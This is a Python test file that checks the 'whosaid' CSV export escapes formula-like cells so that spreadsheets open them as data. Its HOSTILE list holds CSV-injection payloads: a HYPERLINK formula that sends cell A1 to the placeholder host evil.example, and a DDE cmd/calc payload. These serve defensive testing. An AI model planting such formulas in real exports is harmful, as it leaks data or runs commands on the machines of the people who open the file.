"""CSV that spreadsheets open as data: the shared rule, its two writers, and `whosaid export`."""

from __future__ import annotations

import csv
import io

import duckdb
from hypothesis import given, settings
from hypothesis import strategies as st

from whosaid.cli import main as cli_main
from whosaid.records import Article, ArticleResult, Quote, Speaker
from whosaid.safe_csv import FORMULA_STARTS, copy_csv, csv_chunks, safe_cell, safe_sql
from whosaid.store import Store

# What an attacker would put in a title, an outlet or a quote, and what a spreadsheet would run.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "Click for the full story")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+44 20 7946 0000",
    "-2+3",
    "\tTabbed =1+1",
    "\rCarriage =1+1",
]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def file_cells(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:  # newline="": keep a \r inside a cell
        return list(csv.reader(handle))


def runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


def test_formula_text_is_prefixed_and_everything_else_is_left_alone():
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    for value in ["Plain title", "'already quoted", " =not at the start", "", None, 0, -5, -0.25, 3.5]:
        assert safe_cell(value) == value


def test_streamed_csv_escapes_text_cells_but_keeps_negative_numbers_numeric():
    rows = [(text, -5, -0.25, None) for text in HOSTILE] + [("-5", 7, 1.0, "ok")]
    parsed = cells("".join(csv_chunks(("title", "delta", "share", "note"), rows, rows_per_chunk=2)))
    assert parsed[0] == ["title", "delta", "share", "note"]
    assert [row[0] for row in parsed[1:]] == ["'" + text for text in HOSTILE] + ["'-5"]
    assert all(row[1:3] == ["-5", "-0.25"] for row in parsed[1:-1]), "numbers are written as numbers"
    assert parsed[1][3] == "" and parsed[-1][3] == "ok"


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from([*FORMULA_STARTS, "a", " ", "é", "'", '"', ",", "\n", "\x00", "😀"]), max_size=6))
def test_duckdb_writer_applies_the_same_rule_as_python(text):
    with duckdb.connect() as con:
        got = con.execute(f"SELECT {safe_sql('x')} FROM (SELECT ?::VARCHAR AS x)", [text]).fetchone()[0]
    assert got == safe_cell(text)


def test_copy_csv_escapes_text_columns_only(tmp_path):
    con = duckdb.connect()
    con.execute("CREATE TABLE t (label VARCHAR, delta INTEGER, tags VARCHAR[])")
    con.executemany("INSERT INTO t VALUES (?, ?, ?)", [(text, -5, [text]) for text in HOSTILE] + [("-5", -1, [])])
    copy_csv(con, "SELECT * FROM t", tmp_path / "t.csv")
    parsed = file_cells(tmp_path / "t.csv")
    assert parsed[0] == ["label", "delta", "tags"]
    assert [row[0] for row in parsed[1:]] == ["'" + text for text in HOSTILE] + ["'-5"]
    assert {row[1] for row in parsed[1:]} == {"-5", "-1"}
    assert parsed[1][2].startswith("[") and parsed[-1][2] == "[]", "lists are JSON text, which never runs"


def hostile_store(path) -> None:
    """Two articles whose title, outlet, speaker, cue and quote text are all formula-like."""
    with Store(path) as store:
        for n, text in enumerate(HOSTILE[:2]):
            quote = f"{text} is what we want"
            body = f'{HOSTILE[n + 2]}\n\n"{quote}," said {HOSTILE[n + 3]}.'
            article = Article(id=f"h{n}", text=body, title=text, outlet=HOSTILE[n + 1], date="2025-01-0" + str(n + 1))
            start = body.index(quote)
            speaker = HOSTILE[n + 3]
            store.add(article, ArticleResult(
                id=article.id,
                quotes=[Quote(content=((start, start + len(quote)),), source=(), cue=(), kind="direct",
                              speaker=speaker, speaker_kind="person", text=quote, gender="female")],
                speakers=[Speaker(name=speaker, kind="person", aliases=(), gender="female", gender_evidence=(),
                                  role=HOSTILE[n + 4], quoted=True)],
            ))


def test_whosaid_export_csv_writes_no_cell_a_spreadsheet_would_run(tmp_path, capsys):
    hostile_store(tmp_path / "news.duckdb")
    assert cli_main(["export", "--db", str(tmp_path / "news.duckdb"), "--format", "csv", "-o", str(tmp_path / "out")]) == 0
    seen = set()
    for table in ["articles", "quotes", "speakers", "quote_occurrences", "rejects"]:
        for row in file_cells(tmp_path / "out" / f"{table}.csv"):
            assert not any(runs_as_formula(cell) for cell in row), (table, row)
            seen.update(row)
    # The hostile values are all there, escaped, not dropped.
    for text in HOSTILE[:5]:
        assert "'" + text in seen, text
